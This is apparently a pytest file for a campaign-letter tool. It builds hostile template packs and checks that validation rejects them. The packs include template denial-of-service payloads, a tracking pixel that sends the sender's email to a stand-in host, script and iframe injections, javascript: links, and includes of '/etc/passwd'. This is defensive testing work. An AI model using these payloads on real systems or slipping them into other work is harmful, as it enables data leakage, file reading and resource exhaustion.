"""Hostile campaign packs built here, each with the outcome `campaign check` and `import` must
give: templates that run away, spy on the supporter or reach outside the pack, text with
control characters, source URLs that are not web addresses, an id that shadows a bundled
campaign, and the harmless cases that must still pass."""

from __future__ import annotations

import dataclasses
import shutil
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from composer.cli import main
from composer.core.campaigns import CampaignError, load_campaign
from composer.core.locations import Locations
from composer.core.packs import PackError, check_pack, import_pack, rendering_problems
from composer.core.render import RenderLimits

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "docs" / "example-pack"
ARGUMENT = "arguments/children-ride-to-school.md"


@dataclass(frozen=True)
class Case:
    """A pack: the example pack with `files` written over it (and `toml` replacements)."""

    name: str
    files: dict[str, str] = field(default_factory=dict)
    toml: tuple[tuple[str, str], ...] = ()
    # Expected: None when the pack passes; else (file, line, words of the message).
    problem: tuple[str, int | None, str] | None = None


def html_template(*lines: str) -> dict[str, str]:
    return {"templates/formal.html.j2": "<p>{{ recipient.salutation }}</p>\n" + "\n".join(lines)}


def email_template(*lines: str) -> dict[str, str]:
    return {"templates/email.html.j2": "<p>{{ recipient.salutation }}</p>\n" + "\n".join(lines)}


FORMAL = "templates/formal.html.j2"
EMAIL = "templates/email.html.j2"
LOOP4 = (
    "{% for a in body_text %}{% for b in body_text %}{% for c in body_text %}"
    "{% for d in body_text %}.{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
)

CASES = [
    # --- templates that run away: refused before they run, or stopped by check's render ---
    Case(
        "nested loops over range",
        html_template("{% for a in range(9) %}x{% endfor %}"),
        problem=(FORMAL, 2, "'range()' is not available"),
    ),
    Case(
        "four nested loops over the text", html_template(LOOP4), problem=(FORMAL, 2, "was stopped")
    ),
    Case(
        "center",
        html_template("{{ body|center(3000000000) }}"),
        problem=(FORMAL, 2, "3,000,000,000 characters"),
    ),
    Case(
        "center in the text template",
        {"templates/formal.txt.j2": "{{ body_text }}\n{{ body_text|center(3000000000) }}"},
        problem=("templates/formal.txt.j2", 2, "centered text"),
    ),
    Case(
        "doubling through a macro",
        html_template(
            "{% macro d(s, n) %}{% if n %}{{ d(s ~ s, n - 1) }}{% else %}{{ s|length }}{% endif %}"
            "{% endmacro %}{{ d(body_text, 64) }}"
        ),
        problem=(FORMAL, 2, "characters"),
    ),
    Case(
        "repeat with *",
        html_template("{{ body_text * 3000000000 }}"),
        problem=(FORMAL, 2, "arithmetic with *"),
    ),
    Case(
        "format width",
        html_template("{{ '%3000000000s'|format(subject) }}"),
        problem=(FORMAL, 2, "width"),
    ),
    Case(
        "join",
        html_template("{{ body_text|list|join(body_text) }}"),
        problem=(FORMAL, 2, "joined text"),
    ),
    Case(
        "replace",
        html_template("{{ body_text|replace('', body_text) }}"),
        problem=(FORMAL, 2, "replaced text"),
    ),
    Case(
        "indent",
        html_template("{{ body_text|indent(3000000000) }}"),
        problem=(FORMAL, 2, "indented text"),
    ),
    Case(
        "wordwrap",
        html_template("{{ body_text|wordwrap(1, wrapstring=body_text) }}"),
        problem=(FORMAL, 2, "wrapped text"),
    ),
    Case(
        "a str method that pads",
        html_template("{{ subject.ljust(3000000000) }}"),
        problem=(FORMAL, 2, "unsafe"),
    ),
    Case(
        "self-include",
        {"templates/formal.html.j2": "x\n{% include 'formal.html.j2' %}"},
        problem=(FORMAL, 2, "itself without end"),
    ),
    # --- templates that would spy on the supporter or run something ---
    Case(
        "tracking pixel in the e-mail",
        email_template('<img src="https://t.example/px?who={{ sender.email|urlencode }}">'),
        problem=(EMAIL, 2, "<img>"),
    ),
    Case(
        "script in a letter",
        html_template("<script>document.body.remove()</script>"),
        problem=(FORMAL, 2, "<script>"),
    ),
    Case(
        "style url()",
        html_template('<p style="background: url(https://t.example/a)">x</p>'),
        problem=(FORMAL, 2, "url()"),
    ),
    Case(
        "style sheet url()",
        html_template("<style>", "p { background: url(//t.example/a) }", "</style>"),
        problem=(FORMAL, 3, "url()"),
    ),
    Case(
        "style sheet @import",
        html_template("<style>@import 'https://t.example/a';</style>"),
        problem=(FORMAL, 2, "url()"),
    ),
    Case(
        "link",
        html_template('<link rel="stylesheet" href="https://t.example/s.css">'),
        problem=(FORMAL, 2, "<link>"),
    ),
    Case(
        "iframe",
        html_template('<iframe src="https://t.example/"></iframe>'),
        problem=(FORMAL, 2, "<iframe>"),
    ),
    Case(
        "object",
        html_template('<object data="https://t.example/x"></object>'),
        problem=(FORMAL, 2, "<object>"),
    ),
    Case(
        "embed", html_template('<embed src="https://t.example/x">'), problem=(FORMAL, 2, "<embed>")
    ),
    Case(
        "meta refresh",
        html_template('<meta http-equiv="refresh" content="0; url=https://t.example/">'),
        problem=(FORMAL, 2, "refresh"),
    ),
    Case(
        "srcset",
        html_template('<p srcset="https://t.example/a 1x">x</p>'),
        problem=(FORMAL, 2, "srcset"),
    ),
    Case(
        "background attribute",
        html_template('<table background="https://t.example/b">'),
        problem=(FORMAL, 2, "background"),
    ),
    Case("event handler", html_template('<p onclick="x()">x</p>'), problem=(FORMAL, 2, "onclick")),
    Case(
        "javascript link",
        html_template('<a href="javascript:alert(1)">x</a>'),
        problem=(FORMAL, 2, "only http, https and mailto"),
    ),
    Case(
        "markup made by |safe",
        html_template("{{ ('<im' ~ 'g src=//t.example/>')|safe }}"),
        problem=(FORMAL, 2, "'safe' filter"),
    ),
    Case(
        "autoescape off",
        html_template("{% autoescape false %}{{ body }}{% endautoescape %}"),
        problem=(FORMAL, 2, "autoescape"),
    ),
    Case(
        "a tag name written by code",
        html_template("<{{ 'img' }} src=https://t.example/px>"),
        problem=(FORMAL, None, "what it writes is refused: <img>"),
    ),
    # --- templates that reach outside the pack, or for values that do not exist ---
    Case(
        "include /etc/passwd",
        html_template("{% include '/etc/passwd' %}"),
        problem=(FORMAL, 2, "'/etc/passwd' is not a template of the pack"),
    ),
    Case(
        "include ..",
        html_template("{% include '../campaign.toml' %}"),
        problem=(FORMAL, 2, "not a template of the pack"),
    ),
    Case(
        "include by a computed name",
        html_template("{% include subject %}"),
        problem=(FORMAL, 2, "plain file name"),
    ),
    Case(
        "sender.ward",
        html_template("{{ sender.ward }}"),
        problem=(FORMAL, 2, "sender.ward is not a value"),
    ),
    Case(
        "sender.ward in a test",
        html_template("{% if sender.ward %}x{% endif %}"),
        problem=(FORMAL, 2, "sender.ward"),
    ),
    Case(
        "an unknown name", html_template("{{ ward }}"), problem=(FORMAL, 2, "'ward' is undefined")
    ),
    # --- text that is not text ---
    Case(
        "NUL in an argument",
        {ARGUMENT: (EXAMPLE / ARGUMENT).read_text() + "\nbad\x00"},
        problem=(ARGUMENT, 10, "U+0000"),
    ),
    Case(
        "escape in the title",
        toml=(('on Main Street"', 'on Main Street\x1b[2J"'),),
        problem=("campaign.toml", 6, "U+001B"),
    ),
    Case("NUL in a template", html_template("x\x00"), problem=(FORMAL, 2, "U+0000")),
    Case(
        "javascript: source URL",
        toml=(('title = "Placeholder', 'url = "javascript:alert(1)"\ntitle = "Placeholder'),),
        problem=("campaign.toml", 27, "is not a web address"),
    ),
    Case(
        "file: source URL",
        toml=(('title = "Placeholder', 'url = "file:///etc/passwd"\ntitle = "Placeholder'),),
        problem=("campaign.toml", 27, "is not a web address"),
    ),
    Case(
        "bundled id",
        toml=(('id = "example-bike-lane"', 'id = "protect-russian-defectors"'),),
        problem=("campaign.toml", 5, "comes with the program"),
    ),
    Case(
        "HTML in the title",
        toml=(('on Main Street"', 'on <b>Main</b> Street"'),),
        problem=("campaign.toml", 6, "HTML tags are not allowed in a title"),
    ),
    # --- harmless: these pass ---
    Case(
        "an address in angle brackets",
        {ARGUMENT: (EXAMPLE / ARGUMENT).read_text() + "\nWrite to <library@example.org>."},
    ),
    Case("a web link in a template", html_template('<a href="https://example.org/">site</a>')),
    Case(
        "https and mailto source URLs",
        toml=(('title = "Placeholder', 'url = "https://example.org/a"\ntitle = "Placeholder'),),
    ),
    Case(
        "loops over the sender's lines",
        html_template(
            "{% for line in sender.lines %}{{ line }}{% if not loop.last %}<br>{% endif %}"
            "{% endfor %}{{ body }}{{ sender.lines|join(', ')|center(60) }}"
        ),
    ),
    Case("markup in a value is text", html_template("{{ '<img src=//t.example/>' }}{{ body }}")),
]


def build(case: Case, root: Path) -> Path:
    pack = root / "pack"
    shutil.copytree(EXAMPLE, pack)
    for name, text in case.files.items():
        (pack / name).parent.mkdir(exist_ok=True)
        (pack / name).write_text(text, encoding="utf-8")
    toml = pack / "campaign.toml"
    text = toml.read_text(encoding="utf-8")
    for old, new in case.toml:
        assert old in text
        text = text.replace(old, new, 1)
    toml.write_text(text, encoding="utf-8")
    return pack


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_check_and_import_give_the_expected_outcome(
    case: Case, tmp_path: Path, locations: Locations
) -> None:
    pack = build(case, tmp_path)
    started = time.monotonic()
    campaign, problems = check_pack(pack)
    assert time.monotonic() - started < 30
    if case.problem is None:
        assert problems == []
        assert campaign is not None
        imported, _folder = import_pack(pack, locations.campaigns_dir)
        assert imported.id == campaign.id
        return
    file, line, words = case.problem
    assert campaign is None
    assert any(p.file == file and p.line == line and words in p.message for p in problems), problems
    with pytest.raises((CampaignError, PackError)):
        import_pack(pack, locations.campaigns_dir)
    assert not (locations.campaigns_dir / "example-bike-lane").exists()


def test_check_on_the_command_line_names_file_line_and_limit(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pack = build(Case("loops", html_template(LOOP4)), tmp_path)
    assert main(["campaign", "check", str(pack)]) != 0
    err = capsys.readouterr().err
    assert f"{pack}/{FORMAL}:2: " in err
    assert "was stopped" in err and "steps" in err


def test_check_refuses_a_template_too_slow_to_preview_as_one_types() -> None:
    """Under the time limit, yet far too slow: check refuses it rather than let it through."""
    campaign = load_campaign(EXAMPLE)
    # About a second here: between a fifth of the time limit and the limit, with room both ways.
    slow = (
        "{% for a in body_text %}{% for b in body_text ~ body_text %}{% endfor %}{% endfor %}"
        "{{ body }}"
    )
    limits = RenderLimits(seconds=2.25, steps=10**9)
    problems = rendering_problems(
        dataclasses.replace(campaign, templates={"formal.html": slow}), limits
    )
    assert [p.file for p in problems] == [FORMAL]
    assert "to render a sample letter" in problems[0].message or "stopped" in problems[0].message
